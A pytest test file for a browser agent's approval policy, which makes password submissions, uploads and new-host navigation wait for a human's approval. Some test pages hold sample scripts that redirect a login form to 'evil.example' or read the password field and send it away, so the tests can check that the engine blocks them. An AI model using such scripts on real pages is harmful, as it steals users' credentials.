# Shows W30
"""`policy: {ask: [password, upload, new_host]}`: browser actions that wait for an approval."""

from __future__ import annotations

import asyncio
from collections.abc import Iterator, Sequence
from pathlib import Path
from typing import Any

import pytest

from flowengine import Engine
from flowengine.sdk.environments import background
from flowengine.sdk.web.connections import Network, Rules, Stream, dial
from flowengine_envs.browser import sharing
from flowengine_envs.browser.provider import BrowserProvider
from flowengine_envs.browser.resource import Browser
from flowengine_envs.network import egress
from flowengine_envs.sandboxes.namespace import Namespace
from tests.agents.flows import Case, call
from tests.envs.browser.conftest import SMALL
from tests.envs.browser.processes import key_of, session_of
from tests.envs.browser.web import Web, redirect
from tests.envs.opening import opened
from tests.replacing import patches_everywhere

pytestmark = pytest.mark.endurance

ALL = ["password", "upload", "new_host"]
LOGIN = """<form method=post action=/in><input name=user><input type=password name=pass>
  <button id=go>Log in</button><button id=two formaction=/other>Other</button></form>
  <form method=post action=/search><input name=q><button id=search>Search</button></form>
  <input id=other onchange="document.forms[0].submit()">
  <p id=area onclick="document.forms[0].submit()">An area</p>
  <select id=script onchange="fetch('/in', {method: 'POST',
    body: document.querySelector('[name=pass]').value}).catch(() => 0)"><option>1<option>2</select>
  <select id=get onchange="location = '/in?' + new URLSearchParams({p:
    document.querySelector('[name=pass]').value})"><option>1<option>2</select>
  <select id=tab onchange="document.forms[0].target = '_blank'; document.forms[0].submit()">
    <option>1<option>2</select>
  <input type=file id=file>"""


@pytest.fixture(scope="module")
def somewhere(web: Web, chromium: Browser) -> Iterator[None]:
    """Simulate the web: hosts that end in `.example` resolve to the test server.

    Only for processes started from now on: the shared one must reach what other tests name.
    """

    async def resolve(host: str, port: int) -> Sequence[str]:
        if not host.endswith(".example"):
            raise OSError(f"there is no {host}")
        return ["93.184.216.34"]

    async def connect(address: str, port: int) -> Stream:
        if address == "127.0.0.1":
            return await dial(address, port)
        if port != 80:  # Chromium tries TLS first, and would wait for an answer
            raise ConnectionRefusedError
        return await dial("127.0.0.1", web.port)

    def network(rules: Rules) -> Network:
        return Network(rules, resolve, connect)

    with patches_everywhere() as patch:
        patch.setattr(egress, "Network", network)
        yield


@pytest.fixture(scope="module")
def asking(
    web: Web, somewhere: None, tmp_path_factory: pytest.TempPathFactory
) -> Iterator[Browser]:
    folder = tmp_path_factory.mktemp("asking")
    (folder / "a.txt").write_text("one")
    config = {"action_timeout": 3, "viewport": SMALL}
    policy = {"network": ["public", "home.example"], "ask": ALL}
    with opened(BrowserProvider(), Namespace, folder, config=config, policy=policy) as browser:
        yield browser


def on_login(browser: Browser, web: Web, page: str = LOGIN) -> None:
    web.page("/login", page)
    seen = browser.navigate("http://home.example/login")
    assert not seen.error
    web.asked.clear()


def posts(web: Web) -> list[str]:
    return [each for each in web.asked if each.startswith("POST")]


# A form with a password


@pytest.mark.wherever("action")
@pytest.mark.parametrize(
    "action",
    [
        {"action": "click", "selector": "#go"},
        {"action": "press", "key": "Enter", "selector": "[name=user]"},
        {"action": "fill", "selector": "[name=pass]", "text": "moon dust", "submit": True},
        {"action": "type", "selector": "[name=user]", "text": "ana\n"},
    ],
)
def test_a_form_with_a_password_waits_for_a_yes_and_the_page_stays_as_it_was(
    asking: Browser, web: Web, action: dict[str, Any]
) -> None:
    on_login(asking, web)
    before = asking.fill("[name=user]", "ana").ax_tree

    seen = asking.step(action)

    assert seen.error.startswith("it needs an approval first:")
    found = seen.needs_approval
    assert found is not None
    assert found["action"] == f"{action['action']}: send a form with a password"
    assert found["target"]["page"] == "http://home.example/login"
    assert found["target"]["sends_to"] == ["http://home.example"]
    assert "moon" not in str(found)
    assert (seen.url, seen.ax_tree) == ("http://home.example/login", before)
    assert not posts(web)

    done = asking.step(action, found)
    assert (done.error, done.url) == ("", "http://home.example/in")
    assert posts(web) == ["POST /in"]


def test_a_yes_is_for_one_element_of_one_page(asking: Browser, web: Web) -> None:
    on_login(asking, web)
    found = asking.click("#go").needs_approval

    other = asking.step({"action": "click", "selector": "#two"}, found)

    assert other.needs_approval is not None
    assert other.needs_approval["target"]["element"] == "<button> Other"
    assert not posts(web)


def test_a_yes_is_not_for_a_page_that_has_changed_its_destination(
    asking: Browser, web: Web
) -> None:
    on_login(asking, web)
    found = asking.click("#go").needs_approval
    web.page("/login", LOGIN.replace("action=/in", "action=http://evil.example/in"))
    asking.reload()

    again = asking.step({"action": "click", "selector": "#go"}, found)

    assert again.needs_approval is not None
    assert again.needs_approval["target"]["host"] == "evil.example"
    assert again.needs_approval["action"] == (
        "click: send a form with a password and open a new host"
    )
    assert not posts(web)


def test_a_yes_is_not_for_a_harmless_element_that_has_taken_its_place(
    asking: Browser, web: Web
) -> None:
    on_login(asking, web)
    found = asking.click("#go").needs_approval
    web.page("/plain", "<button id=go onclick='document.title = 1'>Log in</button>", "0")
    asking.navigate("http://home.example/plain")
    seen = asking.step({"action": "click", "selector": "#go"}, found)
    assert "the approved element is gone from the page. Nothing was done" in seen.error
    assert seen.title == "0"


def test_a_script_that_changes_the_destination_after_the_yes_sends_nothing(
    asking: Browser, web: Web
) -> None:
    on_login(asking, web)
    swap = "document.forms[0].action = 'http://evil.example/in'"
    web.page("/login", LOGIN + f"<script>document.forms[0].onsubmit = () => {{ {swap} }}</script>")
    asking.reload()
    asking.fill("[name=pass]", "moon dust")
    found = asking.click("#go").needs_approval

    seen = asking.step({"action": "click", "selector": "#go"}, found)

    assert "kept from sending a password to http://evil.example" in seen.error
    assert not posts(web)


@pytest.mark.wherever("which")
@pytest.mark.parametrize("which", ["#script", "#get", "#tab"])
def test_what_scripts_send_unforeseen_is_stopped(asking: Browser, web: Web, which: str) -> None:
    on_login(asking, web)
    asking.fill("[name=pass]", "moon dust & more")
    seen = asking.select(which, ["2"])
    assert "not approved: the page was kept from sending a password to" in seen.error
    assert seen.needs_approval is None
    assert seen.url == "http://home.example/login"
    assert not web.asked
    # A tab that was kept from opening delays no later action.
    background().run(asyncio.wait_for(session_of(asking).wait_tracked(600), 60))


def test_with_a_password_on_the_page_whatever_scripts_may_send_is_asked_about(
    asking: Browser, web: Web
) -> None:
    on_login(asking, web)
    assert asking.click("[name=user]").needs_approval is None
    asking.fill("[name=pass]", "moon dust")
    assert asking.click("[name=user]").needs_approval is None
    for which in ("#area", "#search"):
        assert asking.click(which).needs_approval is not None
    assert not posts(web)


def test_an_answer_to_a_dialog_waits_with_its_action_and_approves_nothing(
    asking: Browser, web: Web
) -> None:
    page = LOGIN.replace("action=/in>", "action=/in onsubmit=\"return confirm('sure?')\">")
    on_login(asking, web, page)
    asking.answer_dialog(True)
    found = asking.click("#go").needs_approval
    assert found is not None
    assert not posts(web)
    seen = asking.step({"action": "click", "selector": "#go"}, found)
    assert [(each.message, each.accepted) for each in seen.dialogs] == [("sure?", True)]
    assert (seen.error, posts(web)) == ("", ["POST /in"])


# Uploads


def test_an_upload_waits_and_a_changed_file_is_asked_about_anew(asking: Browser, web: Web) -> None:
    on_login(asking, web)
    action = {"action": "upload", "selector": "#file", "paths": ["a.txt"]}
    found = asking.step(action).needs_approval
    assert found is not None
    [file] = found["target"]["files"]
    assert (file["path"], file["size"], len(file["sha256"])) == ("a.txt", 3, 64)

    (asking.workspace / "a.txt").write_text("two")
    assert asking.step(action, found).needs_approval is not None

    (asking.workspace / "a.txt").write_text("one")
    assert asking.step(action, found).error == ""
    chosen = asking.page.locator("#file")
    assert background().run(chosen.input_value()).endswith("a.txt")


# New hosts


def test_a_new_host_waits_and_then_it_is_known(asking: Browser, web: Web) -> None:
    web.page("/news", "<a href='http://shop.example/'>Shop</a>")
    web.page("/", "<h1>Shop</h1>")
    asking.navigate("http://home.example/news")
    web.asked.clear()
    found = asking.click("a").needs_approval
    assert found is not None
    assert found["action"] == "click: open a new host"
    assert found["target"]["host"] == "shop.example"
    assert not web.asked

    seen = asking.step({"action": "click", "selector": "a"}, found)
    assert (seen.error, seen.url) == ("", "http://shop.example/")
    assert asking.navigate("http://shop.example/").needs_approval is None
    assert asking.navigate("http://SHOP2.example/").needs_approval is not None


def test_other_ways_to_a_new_host_lead_nowhere(asking: Browser, web: Web) -> None:
    web.pages["/away"] = redirect("http://away.example/")
    web.page("/parts", "<img src='http://pixel.example/x.png'><p onclick=\"location='http://js.exampl"
             "e/'\">x</p>")  # fmt: skip
    web.asked.clear()

    seen = asking.navigate("http://home.example/away")
    assert "away.example:80 is a new host that was not approved" in seen.error

    seen = asking.navigate("http://home.example/parts")
    seen = seen if seen.blocked else asking.wait_for(seconds=0.5)
    assert any(each.startswith("pixel.example:80") for each in seen.blocked)
    seen = asking.click("p")
    assert any(each.startswith("js.example:80") for each in seen.blocked)
    assert web.asked == ["GET /away", "GET /parts"]


# In flows

FLOW = """
flowengine: 1
id: f
defaults: {{model: scripted/test}}
environments:
  browser:
    kind: browser
    policy: {{network: ["{place}"], ask: [password, upload]}}
    config: {{action_timeout: 3}}
{rest}
"""
AGENT = """
agents:
  first: {instructions: Log in., tools: [std.browser_open, std.browser_fill, std.browser_click]}
steps:
  - {id: ask, agent: first, with: {prompt: Log in.}}
"""
STEP = """
inputs: {url: {type: string}}
steps:
  - id: look
    call: std.browse
    with:
      url: "${{ inputs.url }}"
      actions:
        - {action: fill, selector: "[name=user]", text: ana}
        - {action: fill, selector: "[name=pass]", text: moon dust}
        - {action: click, selector: "#go"}
        - {action: observe}
outputs: {url: {value: "${{ steps.look.output.url }}"}}
"""


@pytest.mark.usefixtures("one_process")
def test_an_agent_waits_for_a_yes_and_is_told_of_a_no(web: Web, tmp_path: Path) -> None:
    url = web.page("/login", LOGIN)
    web.asked.clear()
    script = [
        {"calls": [call("std.browser_open", url=url)]},
        {"calls": [call("std.browser_click", ref="e5")]},
        {"calls": [call("std.browser_click", ref="e5")]},
        {"text": "done"},
    ]
    case = Case(tmp_path, FLOW.format(place=web.place, rest=AGENT), script)
    with case.engine_open() as engine:
        [wait] = engine.run(case.path).waits
        assert wait["tool"] == "std.browser_click"
        assert wait["found"]["action"] == "click: send a form with a password"
        assert wait["found"]["target"]["element"] == "<button> Log in"
        rejected = engine.approvals.reject(wait["id"], comment="not now").result
        assert rejected is not None
        assert not posts(web)
        assert "not now" in case.sent(2)[-1]["content"]

        [again] = rejected.waits
        result = engine.approvals.approve(again["id"]).result
        assert result is not None
        assert result.status == "succeeded"
    assert posts(web) == ["POST /in"]


@pytest.mark.usefixtures("one_process")
def test_a_step_waits_in_the_middle_of_its_actions_and_continues_there(
    web: Web, tmp_path: Path
) -> None:
    url = web.page("/login", LOGIN)
    web.asked.clear()
    path = tmp_path / "flow.yaml"
    path.write_text(FLOW.format(place=web.place, rest=STEP))
    with Engine(tmp_path / "store.db", workdir=tmp_path) as engine:
        [wait] = engine.run(path, {"url": url}).waits
        assert wait["found"]["target"]["element"] == "<button> Log in"
        result = engine.approvals.approve(wait["id"]).result
        assert result is not None
        assert result.outputs == {"url": web.url("/in")}, result
    assert [each for each in web.asked if "favicon" not in each] == ["GET /login", "POST /in"]
    assert b"moon+dust" in web.bodies["/in"]

    with Engine(tmp_path / "store.db", workdir=tmp_path) as engine:
        [wait] = engine.run(path, {"url": url}).waits
    web.asked.clear()
    with Engine(tmp_path / "store.db", workdir=tmp_path) as engine:
        result = engine.approvals.approve(wait["id"]).result
        assert result is not None
        assert result.error is not None
        assert "the browser was opened again since action 4 was approved" in str(result.error)
    assert not posts(web)


HOSTS = """
flowengine: 1
id: f
environments: {browser: {kind: browser, policy: {network: public, ask: [new_host]}}}
steps:
  - {id: look, call: std.browse, with: {url: "http://far.example/"}}
  - {id: again, call: std.browse, with: {url: "http://far.example/"}}
outputs: {title: {value: "${{ steps.again.output.title }}"}}
"""


def test_a_new_host_is_opened_after_a_yes_in_another_process_too(
    web: Web, asking: Browser, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    process = key_of(asking.request)
    monkeypatch.setattr(sharing, "_key", lambda request: process)  # a profile is enough here
    web.page("/", "<h1>Far</h1>", "Far away")
    web.asked.clear()
    path = tmp_path / "flow.yaml"
    path.write_text(HOSTS)
    with Engine(tmp_path / "store.db", workdir=tmp_path) as engine:
        [wait] = engine.run(path).waits
        assert wait["title"] == "Call std.browse: navigate: open a new host?"
        assert wait["found"]["target"] == {"host": "far.example", "url": "http://far.example/"}
        assert not web.asked
    with Engine(tmp_path / "store.db", workdir=tmp_path) as engine:
        result = engine.approvals.approve(wait["id"]).result
    assert result is not None
    assert result.outputs == {"title": "Far away"}, result
